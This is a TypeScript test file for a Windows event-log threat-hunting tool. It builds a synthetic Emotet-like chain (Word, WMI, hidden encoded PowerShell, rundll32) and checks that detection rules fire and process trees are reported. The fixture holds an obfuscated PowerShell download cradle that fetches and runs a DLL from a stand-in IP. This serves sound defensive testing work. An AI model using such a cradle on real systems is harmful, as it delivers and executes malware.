import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  eventRecord,
  huntNoStore,
  POWERSHELL,
  processCreator,
  writeTempEvtx,
} from '../../../../test/support/hunt-evtx.js';
import { sharedDataPath, sharedDataSkip } from '../../../../test/support/fixtures.js';

const guid = (n: number) => `{5770385F-C22A-43E0-BF4C-06F5${String(n).padStart(8, '0')}}`;
const encode = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
/** Every record names the PowerShell (pid 2000) as its writer: the 4104 block is tied to it that way. */
const AS_POWERSHELL = { executionPid: 2000 };

const record = (id: number, channel: string, eventId: number, data: Record<string, unknown>) =>
  eventRecord(id, channel, eventId, data, AS_POWERSHELL);

const proc = processCreator(guid, { user: 'EXAMPLE\\alice', options: () => AS_POWERSHELL });

/** Word, then WMI starting an encoded PowerShell that runs rundll32, and its obfuscated script block. */
function emotetLog(): string {
  const ps = POWERSHELL;
  const cradle =
    "$c = New-Object ('Net.'+'WebClient'); $c.('Down'+'loadFile')('http://192.0.2.10/a.dll', 'a.dll')";
  return writeTempEvtx('emoguard-hunt-tree-', 'host.evtx', [
    {
      records: [
        proc(
          1,
          1000,
          900,
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          'C:\\Windows\\explorer.exe',
          'WINWORD.EXE /n invoice.doc',
        ),
        proc(
          2,
          2000,
          1500,
          ps,
          'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
          `powershell -w hidden -enc ${encode(cradle)}`,
        ),
        record(3, 'Microsoft-Windows-PowerShell/Operational', 4104, {
          MessageNumber: 1,
          MessageTotal: 1,
          ScriptBlockText: cradle,
          ScriptBlockId: '{00000000-0000-0000-0000-000000000001}',
          Path: '',
        }),
        proc(
          4,
          3000,
          2000,
          'C:\\Windows\\System32\\rundll32.exe',
          ps,
          'rundll32.exe C:\\Users\\alice\\AppData\\Local\\Temp\\a.dll,Control_RunDLL',
        ),
      ],
    },
  ]);
}

const hunt = (...args: string[]) => huntNoStore('emoguard-hunt-tree-db-', ...args);

/** `hunt --tree --json` over a file: the process tree of each detection line. */
async function treesOf(path: string) {
  const r = await hunt('--tree', '--json', path);
  return {
    r,
    trees: r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).processTree),
  };
}

type Node = { image: string; match?: true; children: Node[] };
const shape = (n: Node): unknown => [
  n.image.split('\\').pop(),
  ...(n.match ? ['*'] : []),
  ...n.children.map(shape),
];

describe('hunt --tree and PowerShellNormalized on an EVTX built in code', () => {
  test('--json: high/critical detections carry the process tree as nested objects', async () => {
    const r = await hunt('--tree', '--json', emotetLog());
    assert.equal(r.code, 1, r.stderr);
    const lines = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, any>);
    const titles = lines.map((d) => d.rule.title as string);
    assert.ok(
      titles.includes(
        'Obfuscated or Encoded PowerShell Download Cradle on the Command Line (emoguard)',
      ),
      titles.join('; '),
    );
    assert.ok(
      titles.includes('Obfuscated PowerShell Download Cradle in a Script Block (emoguard)'),
      titles.join('; '),
    );
    const chain = lines.find((d) => d.rule.id === 'office-wmi-powershell-payload');
    assert.ok(chain, `the full chain fires: ${titles.join('; ')}`);
    assert.deepEqual(shape(chain.processTree.root), [
      'WmiPrvSE.exe',
      ['powershell.exe', ['rundll32.exe', '*']],
    ]);
    assert.equal(chain.processTree.host, 'ws01.example.com');
    const block = lines.find((d) =>
      d.rule.title.startsWith('Obfuscated PowerShell Download Cradle in a Script Block'),
    );
    assert.deepEqual(
      shape(block!.processTree.root),
      ['WmiPrvSE.exe', ['powershell.exe', '*']],
      'the 4104 block is the tree of its PowerShell, as known then',
    );
    for (const d of lines)
      if (d.rule.level !== 'high' && d.rule.level !== 'critical')
        assert.equal(d.processTree, undefined);
  });

  test('without --tree, detections carry no tree; with it, text output indents the tree under the line', async () => {
    const plain = await hunt('--json', emotetLog());
    assert.ok(!plain.stdout.includes('processTree'), 'no tree unless asked');
    const text = await hunt('--tree', emotetLog());
    assert.match(
      text.stdout,
      /process tree on ws01\.example\.com:\n {6}C:\\Windows\\System32\\wbem\\WmiPrvSE\.exe\n {8}└ C:\\Windows\\System32\\WindowsPowerShell\\v1\.0\\powershell\.exe {2}\[2000\]/,
    );
    assert.match(text.stdout, / {10}└ C:\\Windows\\System32\\rundll32\.exe {2}\[3000\] .* ◀\n/);
  });

  const sample = ['evtx', 'LM_wmiexec_impacket_sysmon_whoami.evtx'] as const;
  test(
    'real sample: impacket wmiexec shells under one WmiPrvSE',
    { skip: sharedDataSkip(...sample) },
    async () => {
      const { trees } = await treesOf(sharedDataPath(...sample));
      assert.equal(trees.length, 3);
      assert.deepEqual(
        trees.map((t) => t.root.children.length),
        [1, 2, 3],
        'each later tree holds the shells started before',
      );
      assert.ok(
        trees.every((t) => t.root.image.endsWith('WmiPrvSE.exe')),
        'rooted at WmiPrvSE',
      );
    },
  );

  const security = ['evtx', 'ID4688_5140_5145-WMIexec_via_SMB_GLOBAL.evtx'] as const;
  test(
    'real sample: Security 4688 trees link by pid and logon id',
    { skip: sharedDataSkip(...security) },
    async () => {
      const { r, trees } = await treesOf(sharedDataPath(...security));
      assert.ok(trees.length >= 2, r.stdout);
      assert.ok(
        trees.every((t) => t.root.image.endsWith('WmiPrvSE.exe')),
        'rooted at WmiPrvSE',
      );
    },
  );
});
